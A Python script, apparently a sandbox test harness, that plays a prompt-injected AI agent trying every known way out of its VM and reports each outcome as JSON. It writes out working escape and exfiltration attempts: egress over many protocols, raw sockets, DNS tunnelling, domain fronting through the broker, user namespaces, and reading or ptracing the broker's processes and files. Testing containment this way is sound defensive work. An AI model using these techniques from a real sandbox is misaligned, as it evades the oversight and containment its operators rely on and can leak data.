# An agent under prompt injection: tries every way out of its VM that it knows of, and prints what became of each as JSON.
# Its input is JSON: address, v6 (of a closed destination), resolver (the true one), allowed (a name), closed (a name),
# device, files (that it must not read), pids (of processes that it must not look into). Its tricks need no rights, and
# so it runs as the login user. `out` means that the kernel took the packet or that a connection came about.
import ctypes
import json
import os
import socket
import struct
import subprocess
import sys

asked = json.load(sys.stdin)
results = {}
MARK = b'injected-agent-was-here'


def attempt(name):
    def run(trick):
        try:
            answer = trick()
            results[name] = answer if isinstance(answer, str) else 'out'
        except (OSError, subprocess.SubprocessError, ValueError) as error:
            results[name] = 'refused: ' + type(error).__name__
        return trick

    return run


def tcp(address, port, family=socket.AF_INET, protocol=0, prepare=None, data=MARK):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(4)
        if prepare:
            prepare(one)
        one.connect((address, port))
        one.sendall(data)


def udp(address, port, family=socket.AF_INET, kind=socket.SOCK_DGRAM, protocol=0, prepare=None, data=MARK):
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(2)
        if prepare:
            prepare(one)
        # The second send reports the ICMP error of the first.
        one.connect((address, port))
        one.send(data)
        one.send(data)
        one.recv(1)


address, v6, device = asked['address'], asked['v6'], asked['device']
for port in (22, 80, 443, 8443):
    attempt(f'tcp to an address, port {port}')(lambda port=port: tcp(address, port))
attempt('tcp over ipv6')(lambda: tcp(v6, 443, socket.AF_INET6))
attempt('tcp to an ipv4-mapped address')(lambda: tcp('::ffff:' + address, 443, socket.AF_INET6))
attempt('multipath tcp')(lambda: tcp(address, 443, protocol=262))
attempt('tcp fast open')(
    lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendto(MARK, socket.MSG_FASTOPEN, (address, 443))
)
attempt('tcp bound to the device')(
    lambda: tcp(address, 443, prepare=lambda one: one.setsockopt(socket.SOL_SOCKET, 25, device.encode()))
)
attempt('tcp by a source route')(
    lambda: tcp(address, 443, prepare=lambda one: one.setsockopt(socket.IPPROTO_IP, 4, b'\x83\x07\x04' + socket.inet_aton(address) + b'\0'))
)
attempt('tcp from port 22')(lambda: tcp(address, 443, prepare=lambda one: one.bind(('', 22))))
attempt('quic')(lambda: udp(address, 443))
attempt('udp over ipv6')(lambda: udp(v6, 443, socket.AF_INET6))
attempt('udp bound to the device')(
    lambda: udp(address, 443, prepare=lambda one: one.setsockopt(socket.SOL_SOCKET, 25, device.encode()))
)
attempt('udp with a device by message')(
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg(
        [MARK], [(socket.IPPROTO_IP, 8, struct.pack('=I4s4s', socket.if_nametoindex(device), b'\0' * 4, b'\0' * 4))], 0, (address, 443)
    )
)
attempt('udplite')(lambda: udp(address, 443, protocol=136))
attempt('sctp')(lambda: tcp(address, 443, protocol=132))
attempt('dccp')(lambda: socket.socket(socket.AF_INET, 6, 33).connect((address, 443)))
attempt('ping socket')(lambda: udp(address, 0, protocol=socket.IPPROTO_ICMP, data=b'\x08\0\0\0\0\0\0\0' + MARK))
attempt('ping socket over ipv6')(lambda: udp(v6, 0, socket.AF_INET6, protocol=58, data=b'\x80\0\0\0\0\0\0\0' + MARK))
attempt('raw socket')(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(MARK, (address, 0)))
attempt('packet socket')(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).send(MARK))
attempt('broadcast')(
    lambda: udp('255.255.255.255', 9, prepare=lambda one: one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))
)


@attempt('multicast')
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        index = socket.if_nametoindex(device)
        one.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack('=4s4si', b'\0' * 4, b'\0' * 4, index))
        one.sendto(MARK, ('239.1.2.3', 9))


def joined(one, group, index):
    one.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack('=4s4si', socket.inet_aton(group), b'\0' * 4, index))


# The groups are data, and the kernel reports them. What leaves is counted outside.
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    for group in ('239.77.1.1', '239.77.1.2'):
        try:
            joined(one, group, socket.if_nametoindex(device))
        except OSError:
            pass
    results['groups joined'] = 'counted outside'

# DNS: the true resolver, and tunnels through the one that answers.
query = lambda name, kind: b'\x12\x34\x01\0\0\x01\0\0\0\0\0\0' + b''.join(
    bytes([len(label)]) + label.encode() for label in name.split('.')
) + b'\0' + struct.pack('>HH', kind, 1)


def dns(server, name, kind=1):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(4)
        one.connect((server, 53))
        one.send(query(name, kind))
        answer = one.recv(4096)
        return f'code {answer[3] & 15}, {struct.unpack(">H", answer[6:8])[0]} answers'


attempt('dns of the true resolver')(lambda: dns(asked['resolver'], 'tunnel.' + asked['closed']))
attempt('dns over tcp')(lambda: tcp(asked['resolver'], 53))
attempt('dns tunnel')(lambda: dns('198.18.0.1', 'c2VjcmV0.' + asked['closed'], 16))
attempt('dns tunnel below the allowed name')(lambda: dns('198.18.0.1', 'c2VjcmV0.' + asked['allowed'], 16))
attempt('dns of a closed name')(lambda: dns('198.18.0.1', asked['closed']))
attempt('dns of the allowed name')(lambda: dns('198.18.0.1', asked['allowed']))
attempt('closed name')(lambda: socket.getaddrinfo(asked['closed'], 443) and 'resolved')


# Other identities: namespaces of users map to other users of the machine.
def command(*argv):
    done = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
    if done.returncode != 0:
        raise OSError(done.stderr.decode(errors='replace'))


connecting = f'import socket; socket.create_connection(({address!r}, 443), 4)'
attempt('root of a user namespace')(
    lambda: command('unshare', '--user', '--map-root-user', sys.executable, '-c', connecting)
)
for user in asked.get('namespace_users', []):
    attempt(f'user {user} of the private root')(
        lambda user=user: command('private-root', 'setpriv', f'--reuid={user}', '--clear-groups', sys.executable, '-c', connecting)
    )
attempt('network namespace')(
    lambda: command('unshare', '--user', '--map-root-user', '--net', sys.executable, '-c', connecting)
)


# Through the broker to other places.
def hello(name):
    server = name.encode()
    names = struct.pack('>HHHBH', 0, len(server) + 5, len(server) + 3, 0, len(server)) + server
    body = b'\x03\x03' + b'\0' * 32 + b'\0' + b'\0\x02\x13\x01' + b'\x01\0' + struct.pack('>H', len(names)) + names
    message = b'\x01' + struct.pack('>I', len(body))[1:] + body
    return b'\x16\x03\x01' + struct.pack('>H', len(message)) + message


def through(port, data):
    with socket.create_connection((asked['allowed'], port), 8) as one:
        one.settimeout(8)
        one.sendall(data)
        answer = one.recv(4096)
        if not answer:
            raise OSError('closed')
        return 'answered'


allowed, closed = asked['allowed'], asked['closed']
attempt('allowed host')(lambda: through(443, hello(allowed)))
attempt('fronting: another server name')(lambda: through(443, hello(closed)))
attempt('fronting: no server name')(lambda: through(443, hello('')))
attempt('fronting: a server name in two records')(
    lambda: through(443, b'\x16\x03\x01\0\x05' + hello(closed)[5:10] + b'\x16\x03\x01' + struct.pack('>H', len(hello(closed)) - 10) + hello(closed)[10:])
)
attempt('fronting: another Host')(lambda: through(80, f'GET / HTTP/1.1\r\nHost: {closed}\r\n\r\n'.encode()))
attempt('fronting: two Hosts')(
    lambda: through(80, f'GET / HTTP/1.1\r\nHost: {allowed}\r\nHost: {closed}\r\n\r\n'.encode())
)
attempt('fronting: absolute form')(
    lambda: through(80, f'GET http://{closed}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n'.encode())
)
attempt('CONNECT to an address')(
    lambda: through(80, f'CONNECT {address}:443 HTTP/1.1\r\nHost: {allowed}\r\n\r\n'.encode())
)
attempt('a closed port of the allowed host')(lambda: through(8443, hello(allowed)))
attempt('http on the allowed host')(lambda: through(80, f'GET / HTTP/1.1\r\nHost: {allowed}\r\n\r\n'.encode()))

# The broker itself: its ports, its files, its memory.
attempt('port of the broker')(lambda: socket.socket().bind(('0.0.0.0', 640)))
attempt('port of the resolver')(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('198.18.0.1', 53)))
for path in asked.get('files', []):
    attempt(f'read {path}')(lambda path=path: open(path).read() and 'read')
for pid in asked.get('pids', []):
    for name in ('mem', 'environ', 'maps', 'fd', 'root/etc/passwd'):
        path = f'/proc/{pid}/{name}'
        attempt(f'look into {name} of a process')(
            lambda path=path: (os.listdir(path) if path.endswith('/fd') else open(path, 'rb').read(1)) is not None and 'read'
        )
    attempt('signal to a process')(lambda pid=pid: os.kill(pid, 9) or 'sent')
    # ptrace(2), PTRACE_SEIZE.
    attempt('ptrace of a process')(
        lambda pid=pid: 'seized' if ctypes.CDLL(None, use_errno=True).ptrace(0x4206, pid, 0, 0) == 0 else 'refused: ptrace'
    )

json.dump(results, sys.stdout, indent=1)
